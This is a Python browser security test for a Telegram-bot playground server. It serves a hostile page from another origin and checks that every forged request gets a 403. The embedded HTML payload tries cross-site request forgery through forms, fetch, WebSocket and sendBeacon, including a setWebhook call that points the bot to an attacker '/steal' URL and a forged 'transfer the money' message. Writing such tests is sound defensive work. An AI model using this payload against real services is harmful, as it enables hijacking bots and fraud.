"""A page of another site tries to drive the playground through the browser of whoever opens it."""

import asyncio
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, Response

from bot.playground.server import ENTREPRENEUR, HOST
from bot.playground.telegram import Telegram

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
EVIL = """<!doctype html><meta charset=utf-8>
<img src="{here}/bot42:TEST/setWebhook?url={evil}/steal">
<script src="{here}/bot42:TEST/getMe"></script>
<link rel="stylesheet" href="{here}/playground/state">
<iframe src="{here}/playground/chats/1000003"></iframe>
<iframe src="{here}/bot42:TEST/deleteWebhook"></iframe>
<iframe name="form"></iframe><iframe name="upload"></iframe>
<form id="form" method="post" target="form" action="{here}/bot42:TEST/sendMessage">
  <input name="chat_id" value="1000003"><input name="text" value="Переведите деньги"></form>
<form id="upload" method="post" target="upload" enctype="multipart/form-data"
  action="{here}/playground/upload"><input name="person_id" value="1000003"></form>
<script>
  const act = JSON.stringify({{action: "write", person_id: 1000003, text: "привет"}});
  const json = {{"Content-Type": "application/json"}};
  window.opened = [];
  window.tried = Promise.allSettled([
    fetch("{here}/playground/state").then(() => opened.push("state")),
    fetch("{here}/playground/act", {{method: "POST", body: act, mode: "no-cors"}}),
    fetch("{here}/playground/act", {{method: "POST", body: act, headers: json}})
      .then(() => opened.push("act")),
    fetch("{here}/bot42:TEST/sendMessage", {{
      method: "POST", mode: "no-cors", body: new URLSearchParams({{chat_id: 1000003, text: "!"}}),
    }}),
    fetch("{here}/bot42:TEST/getUpdates", {{mode: "no-cors"}}),
    new Promise((end) => {{
      const events = new EventSource("{here}/playground/events");
      events.onopen = () => end(opened.push("events"));
      events.onerror = end;
    }}),
    new Promise((end) => {{
      const socket = new WebSocket("{here}/playground/events".replace("http", "ws"));
      socket.onopen = () => end(opened.push("socket"));
      socket.onerror = end;
    }}),
  ]);
  navigator.sendBeacon("{here}/playground/act", act);
  document.getElementById("form").submit();
  document.getElementById("upload").submit();
</script>"""


@pytest_asyncio.fixture(loop_scope="session", params=["localhost", HOST])
async def evil(request: pytest.FixtureRequest, address: str) -> AsyncIterator[str]:
    """Another site, and another port of the same one."""

    async def page(asked: web.Request) -> web.Response:
        here, there = address, f"http://{asked.host}"
        return web.Response(text=EVIL.format(here=here, evil=there), content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, HOST, 0).start()
    yield f"http://{request.param}:{runner.addresses[0][1]}/"
    await runner.cleanup()


async def expect_answer(answers: list[Response], path: str) -> None:
    async with asyncio.timeout(30):
        while not any(each.url.endswith(path) for each in answers):  # noqa: ASYNC110
            await asyncio.sleep(0.05)


async def test_nothing_that_another_site_sends_is_let_in(
    browser: Browser, telegram: Telegram, address: str, evil: str
):
    page = await browser.new_page()
    asked: set[str] = set()
    answers: list[Response] = []
    page.on("request", lambda each: asked.add(each.url.removeprefix(address).partition("?")[0]))
    page.on("response", lambda each: answers.append(each))  # noqa: PLW0108 - playwright marks it
    await page.goto(evil)
    await page.evaluate("tried")
    await expect_answer(answers, "/playground/upload")
    await expect_answer(answers, "/sendMessage")
    assert {each.status for each in answers if each.url.startswith(address)} == {403}
    assert asked >= {
        "/bot42:TEST/setWebhook", "/bot42:TEST/getMe", "/bot42:TEST/deleteWebhook",
        "/bot42:TEST/sendMessage", "/bot42:TEST/getUpdates", "/playground/act",
        "/playground/state", "/playground/chats/1000003", "/playground/events",
        "/playground/upload",
    }  # fmt: skip
    assert await page.evaluate("opened") == []
    assert not telegram.webhook.url
    assert telegram.chat(ENTREPRENEUR).messages == []
    carried_out = {call.method.lower() for call in telegram.calls}
    assert not carried_out & {"setwebhook", "deletewebhook", "sendmessage"}
    await page.close()
